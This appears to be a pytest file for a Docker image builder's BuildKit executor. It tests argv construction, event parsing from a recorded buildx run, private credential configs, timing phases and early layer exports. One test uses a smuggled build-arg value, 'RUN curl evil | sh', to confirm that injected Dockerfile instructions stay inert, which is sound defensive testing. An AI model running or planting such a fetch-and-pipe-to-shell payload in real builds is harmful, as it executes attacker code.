"""The BuildKit executor's pure parts: the command line it runs and how it reads BuildKit's events.

The events are a real recording (``tests/fixtures/buildkit/``): ``docker buildx build
--progress=rawjson`` of a 4-step Dockerfile on Docker 26.1.5 / buildx 0.13.1, the first two
steps cached, the last printing a line with terminal colour codes.
"""

from __future__ import annotations

import dataclasses
import io
import json
import os
import sys
import time
from pathlib import Path

import pytest

from builder.oci import buildevents, buildkit
from builder.oci.engine import BuildRequest

RECORDING = Path(__file__).parent / "fixtures" / "buildkit" / "rawjson-4-steps-2-cached.txt"


def test_argv_passes_every_value_as_one_argument_and_no_network_flag():
    request = BuildRequest(
        dockerfile="images/cpu/Dockerfile", context=".", platform="linux/amd64",
        build_args={"WHEELS_TORCH": "torch==2.13.0+cpu --hash=sha256:ab", "EVIL": "x\nRUN curl evil | sh"},
        contexts={"wheels-torch": "/w/torch"}, labels={"a": "b c"}, cache_from=("type=registry,ref=r:cpu",),
        cache_to=("type=inline",), compression="zstd")
    argv = buildkit.argv(request, metadata="/tmp/m.json")
    assert argv[:3] == ["docker", "buildx", "build"]
    assert "--build-arg" in argv and "WHEELS_TORCH=torch==2.13.0+cpu --hash=sha256:ab" in argv
    assert "EVIL=x\nRUN curl evil | sh" in argv, "a value stays one argument: it can't become an instruction"
    assert argv[argv.index("--build-context") + 1] == "wheels-torch=/w/torch"
    assert argv[argv.index("--output") + 1] == "type=docker,compression=zstd,force-compression=true,oci-mediatypes=true"
    plain = buildkit.argv(BuildRequest(dockerfile="D", context=".", platform="linux/amd64"))
    # gzip is forced too: a layer whose only blob is zstd (built for a zstd target) is compressed again
    assert plain[plain.index("--output") + 1] == "type=docker,compression=gzip,force-compression=true"
    assert "--network" not in argv and not any(a.startswith("--network") for a in argv)
    assert argv[-1] == "." and "--provenance=false" in argv


def test_the_recorded_events_give_the_steps_and_the_cached_ones():
    steps, reader = buildevents.Steps(), buildevents.Lines()
    started: list[str] = []
    lines: list[str] = []
    for event in buildevents.events(io.StringIO(RECORDING.read_text())):
        assert "text" not in event, event  # every object of the recording parses, pretty-printed as it is
        for vertex in event.get("vertexes") or []:
            if (name := steps.update(vertex)) is not None:
                started.append(name)
        lines += reader.feed(event)
    lines += reader.rest()
    assert sorted(n.split("]")[0] for n in started) == ["[common 2/4", "[common 3/4", "[common 4/4"]  # FROM: no step
    assert len(steps.names) == 3 and len(steps.done) == 3 and len(steps.cached) == 2
    assert "bold line one" in lines and "line 2" in lines, lines  # one line per line, colours gone
    assert not any("\x1b" in line for line in lines)


def test_following_the_recorded_progress_logs_each_step_once_and_returns_the_errors():
    """What ``run`` reads from buildx (``_follow``): a line per step as it starts, the steps' output, the
    progress ending on BuildKit's own work, and buildx's plain text as the errors."""
    steps = buildevents.Steps()
    progress: list[tuple[int, int, str]] = []
    logged: list[str] = []
    errors = buildkit._follow(io.StringIO(RECORDING.read_text() + "ERROR: boom\n"), steps,
                              lambda done, total, text: progress.append((done, total, text)), logged.append)
    assert errors == ["ERROR: boom"]
    assert [line.split("]")[0] for line in logged if line.startswith("#")] == [
        "#1 [common 4/4", "#2 [common 3/4", "#3 [common 2/4"]
    assert logged[-2:] == ["bold line one", "line 2"]
    assert progress[-1] == (3, 3, "exporting to image")


def test_a_line_written_a_token_at_a_time_is_one_line():
    """uv writes `+ accelerate==1.15.0` in four writes (coloured): BuildKit sends four logs."""
    import base64

    def log(text: str) -> dict:
        return {"logs": [{"vertex": "sha256:v", "stream": 1, "data": base64.b64encode(text.encode()).decode()}]}

    reader = buildevents.Lines()
    got = [line for text in (" \x1b[32m+\x1b[39m ", "\x1b[1maccelerate", "==", "1.15.0\nnext", " line\n", "tail")
           for line in reader.feed(log(text))]
    assert got == [" + accelerate==1.15.0", "next line"] and list(reader.rest()) == ["tail"]


def test_plain_text_from_buildx_passes_as_text():
    text = 'ERROR: failed to solve: process "/bin/sh -c false" did not complete successfully: exit code: 1\n'
    events = list(buildevents.events(io.StringIO('{\n  "vertexes": []\n}\n' + text)))
    assert events == [{"vertexes": []}, {"text": text.strip()}]
    assert "exit code: 1" in buildkit._build_error([e["text"] for e in events if "text" in e], 1)


def test_credentials_reach_buildx_in_a_private_config_only(tmp_path, monkeypatch):
    monkeypatch.setenv("DOCKER_CONFIG", str(tmp_path / "user"))
    (tmp_path / "user").mkdir()
    (tmp_path / "user" / "config.json").write_text(json.dumps({"auths": {"other:5000": {"auth": "eA=="}}}))
    with buildkit.docker_config("127.0.0.1:5001", {"username": "u", "password": "p"}) as env:
        private = Path(env["DOCKER_CONFIG"])
        config = json.loads((private / "config.json").read_text())
        assert set(config["auths"]) == {"other:5000", "127.0.0.1:5001"}
        assert (private / "config.json").stat().st_mode & 0o077 == 0
    assert not private.exists(), "the private config is removed after the build"
    assert json.loads((tmp_path / "user" / "config.json").read_text())["auths"].keys() == {"other:5000"}


def test_the_recorded_events_say_where_the_time_went():
    """Each vertex's started-to-completed seconds, summed per phase: the recording's four steps (FROM
    aside: the base lookup), its two contexts and the Dockerfile, the base's metadata, the export."""
    phases = buildevents.Phases()
    for event in buildevents.events(io.StringIO(RECORDING.read_text())):
        for vertex in event.get("vertexes") or []:
            phases.update(vertex)
        for status in event.get("statuses") or []:
            phases.update_status(status)
    seconds = phases.seconds()
    assert sorted(seconds) == ["base and cache", "context", "export", "export: layers", "export: unpack", "steps"]
    # the export's parts, from its statuses: the layers ~0.03 s, the unpack ~0.01 s, of the export's 0.06 s
    assert seconds["export: layers"] + seconds["export: unpack"] < seconds["export"], seconds
    assert seconds["export: layers"] > 0 and seconds["export: unpack"] > 0, seconds
    # the RUN that prints took 0.194 s of the steps' 0.196 s; the export 0.058 s
    assert 0.19 <= seconds["steps"] <= 0.21 and 0.05 <= seconds["export"] <= 0.07
    assert 0.04 <= seconds["context"] <= 0.06, seconds  # the build definition, both .dockerignore, w's files


def test_the_bench_reads_the_baselines_phases_as_the_builder_reads_its_own():
    """bench/ imports nothing of builder, so it parses the baseline's rawjson itself: the same phases."""
    from bench.project import rawjson_phases

    phases = buildevents.Phases()
    for event in buildevents.events(io.StringIO(RECORDING.read_text())):
        for vertex in event.get("vertexes") or []:
            phases.update(vertex)
        for status in event.get("statuses") or []:
            phases.update_status(status)
    assert rawjson_phases(RECORDING.read_text()) == phases.seconds()
    assert "export: layers" in phases.seconds()


def test_a_build_without_buildx_says_how_to_install_it(tmp_path, monkeypatch):
    """A docker CLI without the buildx plugin (a stand-in script answering as Docker 26's CLI does):
    the failed build is reported as buildx missing, with the package to install, not as docker's usage text."""
    from builder.config.errors import UserError

    fake = tmp_path / "bin" / "docker"
    fake.parent.mkdir()
    fake.write_text("#!/bin/sh\necho \"docker: 'buildx' is not a docker command.\" >&2\nexit 1\n")
    fake.chmod(0o755)
    monkeypatch.setenv("PATH", str(fake.parent))
    with pytest.raises(UserError, match="docker buildx is not installed"):
        buildkit.run(BuildRequest(dockerfile="Dockerfile", context=".", platform="linux/amd64"), cwd=tmp_path)


#: A stand-in ``docker`` CLI (Python): ``buildx build`` of the image prints the steps of two wheel
#: layers' stages, one after the other (cached when the file ``cached`` is in its folder), then the
#: export, and names its image; an early export (``--target wheel-layer-*``) records its argv and pid,
#: prints its layers' export (the first from 05:00:02 to 05:00:05, the second from 05:00:03 to
#: 05:00:09) and runs until stopped (fails at once when ``early-fails`` is there). Its folder is
#: written into it: the builder hands a child only the environment its tool reads. What BuildKit
#: does with these builds is the engine tests' (tests/engine/test_build.py).
FAKE_DOCKER = '''#!{python}
import json, os, sys, time
args = sys.argv[1:]
out = {out!r}
stage = args[args.index("--target") + 1] if "--target" in args else None
if stage in ("wheel-layer-a", "wheel-layer-b"):
    with open(os.path.join(out, f"early-{{stage}}.json"), "w") as f:
        json.dump({{"argv": args, "pid": os.getpid()}}, f)
    if os.path.exists(os.path.join(out, "early-fails")):
        sys.exit(1)
    start, end = ("02", "05") if stage == "wheel-layer-a" else ("03", "09")
    print(json.dumps({{"statuses": [{{"id": "exporting layers", "vertex": "sha256:e",
                                    "started": f"2026-12-07T05:00:{{start}}.0Z",
                                    "completed": f"2026-12-07T05:00:{{end}}.0Z"}}]}}), file=sys.stderr, flush=True)
    time.sleep(60)
    sys.exit(0)
cached = os.path.exists(os.path.join(out, "cached"))
for n, name in enumerate(["[wheel-layer-a 1/1] RUN install a", "[wheel-layer-b 1/1] RUN install b"]):
    step = {{"digest": f"sha256:s{{n}}", "name": name, "started": "2026-12-07T05:00:00.0Z"}}
    print(json.dumps({{"vertexes": [dict(step, cached=True, completed="2026-12-07T05:00:00.0Z") if cached else step]}}),
          file=sys.stderr, flush=True)
    time.sleep(0.5)  # the early export starts meanwhile
    print(json.dumps({{"vertexes": [dict(step, completed="2026-12-07T05:00:01.0Z")]}}), file=sys.stderr, flush=True)
time.sleep(0.5)
with open(args[args.index("--metadata-file") + 1], "w") as f:
    json.dump({{"containerimage.digest": "sha256:" + "a" * 64}}, f)
'''


@pytest.fixture
def fake_docker(tmp_path, monkeypatch):
    fake = tmp_path / "bin" / "docker"
    fake.parent.mkdir()
    fake.write_text(FAKE_DOCKER.format(python=sys.executable, out=str(tmp_path)))
    fake.chmod(0o755)
    monkeypatch.setenv("PATH", f"{fake.parent}:{os.environ['PATH']}")
    return tmp_path


def _early_request() -> BuildRequest:
    return BuildRequest(dockerfile="Dockerfile", context=".", platform="linux/amd64", compression="zstd",
                        build_args={"WHEELS_TORCH": "torch==2.13.0+cpu --hash=sha256:ab"},
                        contexts={"wheels-torch": "/w/torch"}, labels={"a": "b"}, tags=("r:cpu",),
                        cache_from=("type=registry,ref=r:cache",), cache_to=("type=inline",),
                        early_stages=("wheel-layer-a", "wheel-layer-b"))


def _early(folder: Path) -> dict[str, dict]:
    return {p.stem.removeprefix("early-"): json.loads(p.read_text()) for p in sorted(folder.glob("early-*.json"))}


def test_each_wheel_layer_is_exported_early_and_those_builds_stopped_with_the_image(fake_docker):
    """Each wheel layer's stage's step runs: a build of the same arguments and contexts to that
    stage starts, its layers compressed as the image's and nothing stored (no tag, label or cache
    export); once the image's build ends, they are stopped (they were still running), at once. The
    build's ``export: early`` is their export's wall time, the first layer's start to the last's end."""
    started = time.monotonic()
    result = buildkit.run(_early_request(), cwd=fake_docker)
    assert result.ids == ("sha256:" + "a" * 64,)
    early = _early(fake_docker)
    assert list(early) == ["wheel-layer-a", "wheel-layer-b"]
    for stage, export in early.items():
        argv = export["argv"]
        assert argv[argv.index("--target") + 1] == stage
        assert argv[argv.index("--output") + 1] == "type=image,store=false,compression=zstd,force-compression=true,oci-mediatypes=true"
        assert "WHEELS_TORCH=torch==2.13.0+cpu --hash=sha256:ab" in argv and "wheels-torch=/w/torch" in argv
        assert not {"--tag", "--label", "--cache-from", "--cache-to", "--metadata-file"} & set(argv), argv
        assert not Path(f"/proc/{export['pid']}").exists(), "an early export is stopped when the image's build ends"
    assert time.monotonic() - started < 10  # SIGINT stopped them together: not CANCEL_S each, not their 60 s
    assert result.phases["export: early"] == 7.0  # 05:00:02 to 05:00:09


def test_no_early_export_when_the_wheel_layers_are_cached_or_not_asked_for(fake_docker):
    (fake_docker / "cached").touch()
    buildkit.run(_early_request(), cwd=fake_docker)
    assert not _early(fake_docker), "a cached step's layer has its blob already"
    (fake_docker / "cached").unlink()
    buildkit.run(dataclasses.replace(_early_request(), early_stages=()), cwd=fake_docker)
    buildkit.run(dataclasses.replace(_early_request(), stage="common"), cwd=fake_docker)  # a stage's own build
    assert not _early(fake_docker)
    buildkit.run(dataclasses.replace(_early_request(), early_stages=("wheel-layer-b",)), cwd=fake_docker)
    assert list(_early(fake_docker)) == ["wheel-layer-b"]


def test_a_failed_early_export_fails_nothing(fake_docker):
    (fake_docker / "early-fails").touch()
    result = buildkit.run(_early_request(), cwd=fake_docker)
    assert len(_early(fake_docker)) == 2 and result.ids == ("sha256:" + "a" * 64,)
    assert "export: early" not in result.phases
